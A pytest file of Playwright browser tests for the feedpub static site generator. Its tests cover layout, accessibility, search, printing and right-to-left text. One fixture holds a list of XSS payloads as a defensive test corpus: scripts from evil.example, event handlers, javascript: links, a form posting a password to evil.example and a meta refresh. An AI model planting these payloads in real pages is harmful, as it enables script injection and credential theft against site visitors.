"""The pages in a real browser: what people can do there, whatever they have, and what a page never does."""

import subprocess
import sys
import time
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from browsing import EXAMPLE, Dripping, Halting, browser, hosted, needs_chromium, served, url, visiting
from helpers import NOW, make_site, write_post
from rendering import SITE, make_feed, make_post

from feedpub import render
from feedpub.model import Artifact
from feedpub.pipeline import build
from feedpub.publish.disk import DiskTarget
from feedpub.sources import load_site

pytestmark = needs_chromium
__all__ = ["browser", "url"]  # fixtures

INDEX = ""
CATEGORY = quote("categories/财经/")
CODE = "2021/11/09/tide-tables-in-python/"
CHINESE = "2021/11/18/harbour-master/"
TABLE = "2021/11/07/20211107-freight-rates/"
PICTURE = "2021/11/12/a-map-of-the-harbour/"
SOUND = "2021/11/14/listening-to-the-fog-horn/"
NOWHERE = "no/such/page/"
PAGES = [INDEX, CATEGORY, CODE, CHINESE, TABLE, PICTURE, SOUND, NOWHERE]
WIDTHS = [360, 768, 1280]
SCHEMES = ["light", "dark"]


@pytest.fixture(scope="module")
def folder(url, tmp_path_factory):
    """Two sites: the example, and one of so many feeds that its page leaves out what is alike for all."""
    folder = tmp_path_factory.mktemp("static")
    build(load_site(EXAMPLE, url=url, output=str(folder / "example")), now=NOW)
    for number in range(80):
        names = f"[[Desk {number % 9}, Column {number}]]"
        date = f"2021-01-01 00:{number % 60:02}"
        write_post(folder / "posts", f"{number}.md", date=date, categories=names, tags=f"[Tag {number}]")
    build(make_site(folder, "[feeds]\ntags = true\n[output]\npath = 'many'\n"), now=NOW)
    return folder


@pytest.fixture(scope="module")
def host(folder):
    """The same pages on a static host: in the server's sandbox axe cannot run its own script either."""
    with hosted(folder / "example") as address:
        yield address


@pytest.fixture(scope="module")
def many(folder):
    with hosted(folder / "many") as address:
        yield address


@pytest.fixture(scope="module")
def slow(folder):
    """Both, on a host that keeps the scripts back."""
    with hosted(folder, Halting) as address:
        yield address


@pytest.fixture
def visit(browser, url):
    with visiting(browser, url) as tab:
        yield tab


# On every page


@pytest.mark.parametrize("path", [one for one in PAGES if one != NOWHERE])
def test_a_page_asks_nobody_else_for_anything_but_the_pictures_of_posts_and_says_nothing(visit, path):
    visit.go(path).page.wait_for_timeout(200)

    assert visit.console == []
    assert {(kind, urlsplit(one).hostname) for kind, one in visit.outside} <= {("image", "img.example.com")}
    assert visit.page.context.cookies() == []
    if path == INDEX:
        assert visit.outside == []


@pytest.mark.parametrize("path", PAGES)
def test_no_page_is_wider_than_the_screen(visit, path):
    page = visit.go(path).page
    for width in WIDTHS:
        page.set_viewport_size({"width": width, "height": 800})

        assert page.evaluate("document.documentElement.scrollWidth") <= width


@pytest.mark.parametrize("width", WIDTHS)
@pytest.mark.parametrize("scheme", SCHEMES)
@pytest.mark.parametrize("path", [*PAGES[:-1], "404.html", "410.html"])
def test_axe_finds_nothing_that_keeps_anyone_out(browser, host, path, scheme, width):
    axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="axe-playwright-python is not installed")
    with visiting(browser, host, color_scheme=scheme, viewport={"width": width, "height": 800}) as tab:
        found = axe.Axe().run(tab.go(path).page)

    assert found.violations_count == 0, found.generate_report()


LOADED = """media => new Promise(done => {
    media.onload = media.onloadedmetadata = () => done(true);
    media.onerror = () => done(false);
    setTimeout(() => done(false), 5000);
    media.loading = "eager";
    media.preload = "metadata";
    media.src = media.src;
})"""


def test_a_page_that_is_opened_as_a_file_shows_its_pictures_and_plays_its_sounds(browser, folder):
    with visiting(browser, (folder / "example").as_uri()) as tab:
        for path, media in ((PICTURE, ".text img"), (SOUND, "audio")):
            assert tab.go(f"{path}index.html").page.locator(media).first.evaluate(LOADED)

    assert tab.console == []


SHIFTED = """() => new Promise(done => {
    let moved = 0;
    const add = list => list.forEach(one => moved += one.value);
    const observer = new PerformanceObserver(list => add(list.getEntries()));
    observer.observe({type: "layout-shift", buffered: true});
    setTimeout(() => (add(observer.takeRecords()), done(moved)), 400);
})"""
"""By how much what can be seen moved: Cumulative Layout Shift, of which 0.1 is called good."""


@pytest.mark.parametrize("width", [360, 1280])
@pytest.mark.parametrize("path", [INDEX, CATEGORY, CODE, CHINESE, TABLE, PICTURE, SOUND, "404.html"])
@pytest.mark.parametrize("pictures", ["late", "missing"])
def test_nothing_moves_while_a_page_comes_up(browser, host, path, width, pictures):
    with visiting(browser, host, viewport={"width": width, "height": 800}) as tab:
        tab.page.route("**/*.png", lambda route: time.sleep(0.2) or route.continue_())
        tab.page.route("https://img.example.com/**", lambda route: time.sleep(0.2) or answer(route, pictures))
        moved = tab.go(path).page.evaluate(SHIFTED)

    assert moved <= (0.01 if path == SOUND else 0)  # Chromium's player moves its own buttons


def answer(route, pictures):
    if pictures == "missing":
        route.abort()
    else:
        route.fulfill(body=PHOTO, content_type="image/svg+xml")


PHOTO = '<svg xmlns="http://www.w3.org/2000/svg" width="1200" height="800"/>'


def test_nothing_moves_while_the_head_of_a_post_comes_bit_by_bit(browser, folder):
    with hosted(folder / "example", Dripping) as host, visiting(browser, host) as tab:
        assert tab.go(CODE).page.evaluate(SHIFTED) == 0


PAINTED = """() => new Promise(done => {
    const look = () => performance.getEntriesByName("first-contentful-paint").length
        && document.querySelector(".colophon p") ? setTimeout(done, 200) : setTimeout(look, 20);
    look();
})"""
"""Ends when all before the script has been shown."""


@pytest.mark.parametrize("width", [360, 1280])
@pytest.mark.parametrize("path", ["example/", f"example/{CATEGORY}", "many/"])
def test_nothing_moves_where_the_script_comes_late(browser, slow, path, width):
    Halting.go_on.clear()
    with visiting(browser, slow, viewport={"width": width, "height": 2000}) as tab:
        page = tab.page
        page.goto(f"{slow}/{path}", wait_until="commit")
        page.evaluate(PAINTED)
        before = page.locator(".copy").count()
        Halting.go_on.set()
        page.wait_for_load_state()

        assert page.evaluate(SHIFTED) == 0
        assert before == 0 < page.locator(".copy").count()


def test_the_columns_of_a_table_stand_as_its_author_says(visit):
    aligned = "cells => cells.map(one => getComputedStyle(one).textAlign.replace('-webkit-', ''))"

    assert visit.go(CODE).page.locator(".wide tr:nth-child(1) :is(th, td)").evaluate_all(aligned) == [
        *("start", "right", "right"),
        *("start", "right", "right"),
    ]


@pytest.mark.parametrize("path", [INDEX, CODE, NOWHERE])
def test_the_dark_is_dark(visit, path):
    page, brightness = visit.go(path).page, {}
    for scheme in SCHEMES:
        page.emulate_media(color_scheme=scheme)
        color = page.evaluate("getComputedStyle(document.body).backgroundColor")
        brightness[scheme] = sum(map(int, color.removeprefix("rgb(").removesuffix(")").split(",")))

    assert brightness["dark"] < 150 < 600 < brightness["light"]


def test_what_is_not_there_is_said_and_leads_on(visit):
    visit.go(NOWHERE)
    visit.page.get_by_role("main").get_by_role("link").first.click()

    assert visit.page.url == f"{visit.url}/"


@pytest.mark.parametrize("path", [INDEX, CATEGORY, CODE])
def test_print_is_black_on_white_and_leaves_out_what_paper_cannot_do(browser, host, path):
    with visiting(browser, host, color_scheme="dark") as tab:
        page = tab.go(path).page
        page.emulate_media(media="print", color_scheme="dark")
        colors = page.evaluate("""[...document.querySelectorAll("h1, .choices a, .text p, .entry h3 a, time")]
            .filter(one => one.checkVisibility()).map(one => getComputedStyle(one).color)""")

        assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
        assert set(colors) <= {"rgb(0, 0, 0)", "rgb(68, 68, 68)"}
        assert not page.locator(".search:visible, .copy:visible, .beside:visible").count()


def test_print_unfolds_long_lists(browser, many):
    with visiting(browser, many) as tab:
        page = tab.go("").page
        page.emulate_media(media="print")

        assert len(names(page)) == 89


# Finding a feed


def names(page):
    return [one for one in page.locator(".tree .name:visible").all_text_contents() if one]


def test_typing_finds_feeds_and_those_above_them(visit):
    page = visit.go(INDEX).page
    page.get_by_role("searchbox").press_sequentially("滚动")

    assert names(page) == ["财经", "港口日报", "港口日报－滚动"]
    assert page.get_by_role("status").text_content() == "找到 1 个订阅源"


def test_a_name_above_and_a_name_below_find_together(visit):
    page = visit.go(INDEX).page
    page.get_by_role("searchbox").fill("harbour sou")

    assert names(page) == ["Harbour", "Sounds"]


def test_what_is_not_found_is_said(visit):
    page = visit.go(INDEX).page
    page.get_by_role("searchbox").fill("xyzzy")

    assert names(page) == []
    assert page.get_by_text("没有这个名字的订阅源。").is_visible()
    assert not page.get_by_role("heading", name="分类").is_visible()


def test_the_keyboard_alone_finds_a_feed_and_opens_it(visit):
    page = visit.go(INDEX).page
    for _ in range(40):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.type") == "search":
            break
    page.keyboard.type("python")
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.textContent") == "Code"
    page.keyboard.press("Enter")
    page.wait_for_url("**/categories/Code/")


def test_escape_brings_all_feeds_back(visit):
    page = visit.go(INDEX).page
    before = names(page)
    page.get_by_role("searchbox").fill("python")
    page.get_by_role("searchbox").press("Escape")

    assert names(page) == before


def test_the_keyboard_shows_where_it_is(visit):
    page = visit.go(INDEX).page
    for _ in range(5):
        page.keyboard.press("Tab")
        assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") != "none"


# Finding one of many


def test_a_long_list_shows_its_top_and_typing_opens_it(browser, many):
    with visiting(browser, many) as tab:
        page = tab.go("").page
        assert names(page) == [f"Desk {number}" for number in range(9)]
        page.get_by_role("searchbox").fill("column 72")
        assert names(page) == ["Desk 0", "Column 72"]
        page.get_by_role("searchbox").fill("")
        assert names(page) == [f"Desk {number}" for number in range(9)]


@pytest.mark.parametrize("scheme", SCHEMES)
def test_axe_finds_nothing_on_a_page_of_many_feeds(browser, many, scheme):
    axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="axe-playwright-python is not installed")
    with visiting(browser, many, color_scheme=scheme) as tab:
        found = axe.Axe().run(tab.go("").page)

    assert found.violations_count == 0, found.generate_report()


def test_typing_finds_tags_that_stand_side_by_side(browser, many):
    with visiting(browser, many) as tab:
        page = tab.go("").page
        page.get_by_role("searchbox").fill("tag 77")

        assert page.locator(".cloud .name:visible").all_text_contents() == ["Tag 77"]


def test_the_script_adds_formats_to_a_long_list(browser, many):
    with visiting(browser, many) as tab:
        page = tab.go("").page
        row = page.locator(".tree > li > div").first

        assert row.locator(".formats a").all_text_contents() == ["RSS", "Atom", "JSON"]
        assert row.get_by_role("button").count() == 1
        assert row.get_by_role("link", name="JSON").get_attribute("href") == "categories/Desk%200/feed.json"
        assert page.evaluate(SHIFTED) == 0


# Taking it along


@pytest.mark.parametrize(
    ("path", "name", "address"),
    [
        (INDEX, "复制地址: Atom 1.0", "atom.xml"),
        (INDEX, "复制地址: RSS Sounds", "categories/Harbour/Sounds/rss.xml"),
        (CATEGORY, "复制地址: JSON Feed 1.1", f"{CATEGORY}feed.json"),
    ],
)
@pytest.mark.parametrize("granted", [True, False])
def test_a_button_copies_an_address(browser, url, path, name, address, granted):
    permissions = ["clipboard-read", *(["clipboard-write"] if granted else [])]
    with visiting(browser, url, permissions=permissions) as tab:
        page = tab.go(path).page
        if not granted:
            page.evaluate("() => { navigator.clipboard.writeText = () => Promise.reject(); }")
        page.get_by_role("button", name=name, exact=True).press("Enter")

        page.get_by_text("已复制").wait_for(state="attached")
        assert page.evaluate("navigator.clipboard.readText()") == f"{url}/{address}"
        assert page.evaluate("document.activeElement.className").startswith("copy")


def test_without_scripts_everything_is_there_but_what_they_add(browser, url):
    with visiting(browser, url, java_script_enabled=False) as tab:
        page = tab.go(INDEX).page

        assert page.get_by_role("searchbox").count() == 0
        assert page.get_by_role("button").count() == 0
        assert len(names(page)) == 11
        page.get_by_role("link", name="Sounds").click()
        page.get_by_role("link", name="One post on two shelves").click()
        assert page.get_by_role("heading", level=1).text_content() == "One post on two shelves"


def test_a_picture_that_is_not_there_leaves_an_empty_frame(visit):
    visit.page.route("https://img.example.com/**", lambda route: route.abort())
    page = visit.go(CATEGORY).page

    assert page.locator(".entry").count() == 3
    assert page.locator(".thumb").count() == 3
    assert page.locator(".entry img").count() == 0


# Reading


def test_sound_can_be_played(visit):
    page = visit.go(SOUND).page
    player = page.locator("audio")

    assert player.evaluate("one => one.controls && one.preload === 'none'")
    assert player.bounding_box()["width"] > 200


def test_readers_leaf_through_a_category(visit):
    page = visit.go(CHINESE).page
    page.locator("a[rel=next]").click()
    page.wait_for_url("**/pilots/")
    page.locator("a[rel=prev]").click()
    page.wait_for_url("**/harbour-master/")


def test_a_picture_of_any_size_stays_within_the_page(browser, url):
    with visiting(browser, url, viewport={"width": 360, "height": 800}) as tab:
        picture = tab.go(PICTURE).page.locator(".text img").first
        picture.scroll_into_view_if_needed()
        box = picture.bounding_box()

    assert 0 < box["width"] <= 360


LISTS = "<ul><li>one<ul><li>two</li></ul></li></ul>"


def test_a_list_in_a_list_follows_without_a_gap(browser, tmp_path):
    with hosted(published(tmp_path, LISTS)) as url, visiting(browser, url) as tab:
        page = tab.go("post/").page
        lines = page.locator(".text li").evaluate_all("items => items.map(one => one.getBoundingClientRect().top)")
        height = page.locator(".text li li").bounding_box()["height"]

    assert height <= lines[1] - lines[0] < 1.3 * height


DIRECTION = "all => all.map(one => getComputedStyle(one).direction)"
RIGHT = "all => all.map(one => Math.round(one.getBoundingClientRect().right))"


def test_what_is_written_from_right_to_left_begins_on_the_right(browser, tmp_path):
    text = "<p>مرحبا بالعالم.</p><ul><li>واحد</li></ul><blockquote>اقتباس</blockquote>"
    with hosted(published(tmp_path, text, title="مرحبا", language="ar")) as url, visiting(browser, url) as tab:
        page = tab.go("post/").page
        directions = page.locator("h1, .text > *").evaluate_all(DIRECTION)
        borders = page.locator("blockquote").evaluate("one => getComputedStyle(one).borderRightWidth")

    assert set(directions) == {"rtl"}
    assert borders == "3px"


def test_the_date_of_a_post_from_right_to_left_begins_on_the_right_as_its_title_does(browser, tmp_path):
    write_post(tmp_path / "posts", "arrival.md", title="مرحبا", language="ar", categories="[News]")
    build(make_site(tmp_path), now=NOW)
    with hosted(tmp_path / "public") as url, visiting(browser, url) as tab:
        for path in ("2021/11/06/arrival/", "categories/News/"):
            around, date = tab.go(path).page.locator("article, article time").evaluate_all(RIGHT)

            assert date == around


def test_code_is_written_from_left_to_right_in_any_language(browser, tmp_path):
    text = "<p>قبل <code>f(1);</code> بعد</p><pre><code>f(1);\n</code></pre><pre>شعر</pre>"
    with hosted(published(tmp_path, text, title="مرحبا", language="ar")) as url, visiting(browser, url) as tab:
        page = tab.go("post/").page
        directions = page.locator(".text code, .text pre").evaluate_all(DIRECTION)

    assert directions == ["ltr", "ltr", "ltr", "rtl"]


def test_a_number_follows_a_name_that_is_written_from_right_to_left(browser, tmp_path):
    write_post(tmp_path / "posts", tags=f"[عربي, {', '.join(map(str, range(40)))}]")
    build(make_site(tmp_path, "[feeds]\ntags = true\n"), now=NOW)
    with hosted(tmp_path / "public") as url, visiting(browser, url) as tab:
        name = tab.go("").page.locator(".cloud a", has_text="عربي")
        number = """one => {
            const range = document.createRange();
            range.selectNode(one.nextSibling);
            return range.getBoundingClientRect().right;
        }"""
        box = name.bounding_box()

        assert name.evaluate(number) > box["x"] + box["width"]


def test_marked_words_and_keys_stand_out_in_the_colours_of_the_page(browser, tmp_path):
    text = "<p>Press <kbd>H</kbd> for <mark>help</mark>.</p>"
    colours = "all => all.map(one => getComputedStyle(one)).map(one => [one.color, one.backgroundColor])"
    seen = {}
    with hosted(published(tmp_path, text)) as url:
        for scheme in SCHEMES:
            with visiting(browser, url, color_scheme=scheme) as tab:
                seen[scheme] = tab.go("post/").page.locator(".text p, kbd, mark").evaluate_all(colours)

    for around, *inside in seen.values():
        assert all(colour == around[0] and background != around[1] for colour, background in inside)
    assert seen["light"][2] != seen["dark"][2]


def test_what_leads_nowhere_does_not_look_like_a_link(browser, tmp_path):
    text = '<p><a>closed</a> <a href="https://example.com/">open</a></p>'
    with hosted(published(tmp_path, text)) as url, visiting(browser, url) as tab:
        colour = "all => all.map(one => getComputedStyle(one).color)"
        around, closed, leading = tab.go("post/").page.locator(".text p, .text a").evaluate_all(colour)

    assert closed == around != leading


# Posts that mean harm, past a sanitiser that let everything through

HOSTILE = """
<p id="said">The harbour falls dry.</p>
<script>window.harm = 1; alert(1)</script>
<script src="https://evil.example/a.js"></script>
<script type="module">window.harm = 1</script>
<img src="x:" onerror="window.harm = 1; alert(2)"><svg onload="alert(3)"><script>alert(4)</script></svg>
<details open ontoggle="alert(5)"><summary>A</summary>B</details>
<input autofocus onfocus="alert(6)"><video src="x:" onerror="alert(7)"></video>
<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>parent.harm = 1; alert(8)</script>"></iframe>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<link rel="stylesheet" href="https://evil.example/a.css"><style>h1 { display: none !important }</style>
<style>@import "https://evil.example/b.css"; #said { background: url(https://evil.example/c.png) }</style>
<p style="position: fixed; inset: 0; background: red; z-index: 9">Covered</p>
<base href="https://evil.example/"><a id="away" href="javascript:window.harm = 1; alert(9)">Click</a>
<form action="https://evil.example/login"><input name="password" value="x"><button id="send">Send</button></form>
<button formaction="javascript:alert(10)" form="f">X</button>
<link rel="manifest" href="https://evil.example/m.json"><link rel="preload" as="script" href="https://evil.example/p.js">
<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">
<portal src="https://evil.example/portal"></portal><math><mi xlink:href="javascript:alert(11)">m</mi></math>
</div></article></main><script>alert(12)</script>
"""
REFRESH = '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">'


def test_a_hostile_post_becomes_text_where_it_is_no_tag_of_a_post(hostile):
    there = hostile.page.evaluate("[...document.querySelectorAll('.text *')].map(one => one.localName)")
    forbidden = {"script", "iframe", "object", "embed", "link", "style", "meta", "base", "form", "input", "svg"}

    assert bool(forbidden & set(there)) is not hostile.filtered
    assert hostile.page.get_by_text("<script>window.harm = 1; alert(1)</script>").count() == int(hostile.filtered)


def published(folder, content, **more):
    post = make_post(content=content, url=f"{SITE.site.url}/post/", **more)
    places = render.pages.places([make_feed(post)], SITE)
    hostile = render.pages.post(post, places, SITE)
    DiskTarget(folder).publish([hostile, Artifact("rss.xml", b"<rss/>", "application/rss+xml")])
    return folder


@pytest.fixture(params=["feedpub serve", "static host", "feedpub serve, past the page", "static host, past the page"])
def hostile(request, browser, tmp_path, monkeypatch):
    """A hostile post, with the header of the server and with nothing but what the page says itself.

    What writes the page lets none of its tags through either; past that, too, there is but the policy.  On a static
    host that cannot forbid a redirection, as only a header can.
    """
    content = HOSTILE + REFRESH
    if "past the page" in request.param:
        monkeypatch.setattr("feedpub.render.pages.content.for_page", lambda content, *_: content)
        content = HOSTILE if "static" in request.param else content
    if "static" in request.param:
        host = hosted(published(tmp_path, content))
    else:
        host = served(lambda _: published(tmp_path, content))
    with host as url, visiting(browser, url) as tab:
        tab.filtered = "past the page" not in request.param
        yield tab.go("post/")


def test_a_hostile_post_runs_nothing_loads_nothing_and_leads_nowhere(hostile):
    page = hostile.page
    page.wait_for_timeout(300)
    for name in ("#away",) if hostile.filtered else ("#away", "#send"):
        page.locator(name).dispatch_event("click")
    page.wait_for_timeout(300)

    assert page.evaluate("window.harm") is None
    assert hostile.opened == []
    assert [one for one in hostile.outside if "image" not in one] == []
    assert page.url == f"{hostile.url}/post/"
    assert len(page.frames) == 1 or all("evil" not in frame.url for frame in page.frames)


def test_a_hostile_post_cannot_dress_the_page(hostile):
    page = hostile.page

    assert page.get_by_role("heading", level=1).is_visible()
    assert page.get_by_text("Covered", exact=True).evaluate("one => getComputedStyle(one).position") == "static"
    assert page.evaluate("document.baseURI") == f"{hostile.url}/post/"
    assert page.locator("#said").is_visible()


def test_the_picture_in_the_readme_can_be_taken_anew(tmp_path):
    file = tmp_path / "index.png"
    take = f"import pathlib; from tests import pictures; pictures.take_one(pathlib.Path({str(file)!r}))"
    subprocess.run([sys.executable, "-c", take], check=True, cwd=Path(__file__).parents[1])
    assert file.read_bytes().startswith(b"\x89PNG")
